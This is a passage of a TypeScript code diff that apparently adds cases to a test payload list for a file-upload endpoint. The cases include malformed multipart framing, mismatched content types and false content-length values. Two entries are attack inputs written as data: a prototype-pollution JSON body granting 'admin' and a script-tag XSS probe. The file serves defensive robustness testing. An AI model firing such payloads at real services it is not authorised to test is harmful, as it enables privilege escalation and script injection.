+      'multipart: Content-Transfer-Encoding base64',
+      (part) => `${disposition(part)}\r\nContent-Type: text/csv\r\nContent-Transfer-Encoding: base64`,
+      (part) => Buffer.from(part.content).toString('base64'),
+    ),
+    // Framing.
+    withRawBody('multipart: no boundary in the content type', body, 'multipart/form-data'),
+    withRawBody('multipart: empty boundary', body, 'multipart/form-data; boundary='),
+    withRawBody('multipart: a boundary that is not in the body', body, 'multipart/form-data; boundary=something-else'),
+    withRawBody('multipart: quoted boundary', body, `multipart/form-data; boundary="${MULTIPART_BOUNDARY}"`),
+    withRawBody('multipart: boundary given twice', body, `multipart/form-data; boundary=other; boundary=${MULTIPART_BOUNDARY}`),
+    withRawBody('multipart: boundary of 200 characters', (d) => multipartBody(partsOf(d), 'b'.repeat(200)), `multipart/form-data; boundary=${'b'.repeat(200)}`),
+    withRawBody('multipart: LF line endings', (d) => multipartBody(partsOf(d), MULTIPART_BOUNDARY, '\n'), MULTIPART),
+    withRawBody('multipart: no closing delimiter', (d) => body(d).subarray(0, body(d).length - closing), MULTIPART),
+    withRawBody('multipart: cut off inside the file', (d) => body(d).subarray(0, Math.floor(body(d).length * 0.6)), MULTIPART),
+    withRawBody('multipart: preamble and epilogue', (d) => Buffer.concat([Buffer.from('preamble junk\r\n'), body(d), Buffer.from('epilogue junk')]), MULTIPART),
+    withRawBody('multipart: the closing delimiter only', () => `--${MULTIPART_BOUNDARY}--\r\n`, MULTIPART),
+    withRawBody('multipart: empty body', () => '', MULTIPART),
+    withRawBody('multipart: 1 MB+ of garbage', () => '#'.repeat(OVER_BODY_LIMIT), MULTIPART),
+    withRawBody('multipart: as multipart/mixed', body, `multipart/mixed; boundary=${MULTIPART_BOUNDARY}`),
+    withRawBody('multipart: MULTIPART/FORM-DATA in upper case', body, `MULTIPART/FORM-DATA; boundary=${MULTIPART_BOUNDARY}`),
+    // Not multipart at all.
+    withRawBody('body = JSON with the file as a string', (d) => JSON.stringify({ file: fileText(d) }), 'application/json'),
+    withRawBody('body = JSON {"__proto__": …}', () => '{"__proto__":{"admin":true,"polluted":"yes"}}', 'application/json'),
+    withRawBody('body = malformed JSON', () => '{', 'application/json'),
+    withRawBody('body = application/x-www-form-urlencoded', (d) => `file=${encodeURIComponent(fileText(d))}`, 'application/x-www-form-urlencoded'),
+    withRawBody('body = the file as text/csv', fileBytes, 'text/csv'),
+    withRawBody('body = the file as application/octet-stream', fileBytes, 'application/octet-stream'),
+    withRawBody('body = the file as the XLSX media type', fileBytes, XLSX_TYPE),
+    withRawBody('body = the file without a content type', fileBytes, null),
+    withRawBody('body = text/plain <script>', () => '<script>alert(1)</script>', 'text/plain'),
+    // Lying lengths.
+    ...['0', '1', '99999999', '-1', 'abc'].map((length): Payload => ({
+      label: `content-length = ${length}`,
+      apply: (draft) => ({ ...draft, rawBody: body(draft), contentType: MULTIPART, headers: { ...draft.headers, 'content-length': length } }),
+    })),
   ];
 }
 
